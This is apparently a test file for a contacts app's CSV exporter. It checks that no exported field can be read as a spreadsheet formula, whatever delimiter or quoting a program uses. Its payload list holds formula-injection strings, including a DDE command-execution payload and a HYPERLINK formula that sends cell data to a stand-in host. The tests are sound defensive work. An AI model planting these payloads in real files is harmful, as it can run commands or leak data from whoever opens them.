import fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { readAskwellCsv } from '../../electron/exchange/askwellCsv.ts'
import { type ExportedContact, unsaid } from '../../electron/exchange/imported.ts'
import { sourceOf } from '../../electron/exchange/source.ts'
import { inert, writeSpreadsheetCsv } from '../../electron/exchange/spreadsheetCsv.ts'
import { anyExportedContact } from '../support/anyContact.ts'

const counts = { email: 5, phone: 5, link: 5 }
const written = (contact: ExportedContact) => [...writeSpreadsheetCsv([contact], counts)].join('')

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'x;=1+1',
  'x\t=1+1',
  'x|=1+1',
  'x,=1+1',
  '"=1+1',
  '";=1+1;"',
  '""\n=1+1',
  "'=1+1",
]

/** As a spreadsheet calculates: a cell that begins so, blanks aside. One that begins with `'` is text. */
const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell)

/** The ways in which programs take a table apart, right or wrong; NUL stands for no quotation marks at all. */
const settings = [',', ';', '\t', '|'].flatMap((delimiter) =>
  ['"', '\u0000'].map((quoteChar) => ({ delimiter, quoteChar })),
)

function cellsOf(text: string): string[] {
  return settings.flatMap((config) => Papa.parse<string[]>(text.slice(1), config).data.flat())
}

test.each(payloads)('%j is a formula in no field, however the table is taken apart', (payload) => {
  const contact: ExportedContact = {
    ...unsaid,
    uid: 'a',
    prefix: payload,
    given: payload,
    middle: payload,
    family: payload,
    nickname: payload,
    company: payload,
    position: payload,
    location: payload,
    knownHow: payload,
    notes: `first\n${payload}`,
    tags: [payload, 'x'],
    points: [
      { kind: 'email', label: payload, value: payload },
      { kind: 'phone', label: '', value: '+48 600' },
    ],
  }
  expect(cellsOf(written(contact)).filter(isFormula)).toEqual([])
})

test('nor is any other text', () => {
  fc.assert(
    fc.property(anyExportedContact, (contact) => {
      expect(cellsOf(written(contact)).filter(isFormula)).toEqual([])
    }),
    { numRuns: 1000 },
  )
})

test('what is no formula stays as it is', () => {
  for (const text of ['Dana', 'jane-doe@example.org', 'a = b', 'R&D, 2nd floor', 'https://x.org/?a=1', '']) {
    expect(inert(text)).toBe(text)
  }
})

test('the table is told from Askwell’s own and opens as UTF-8', () => {
  const text = written({ ...unsaid, uid: 'a', given: 'Łukasz' })
  expect(text.startsWith('\ufeffName Prefix,First Name,')).toBe(true)
  expect(readAskwellCsv(sourceOf(Buffer.from(text)))).toBeNull()
})
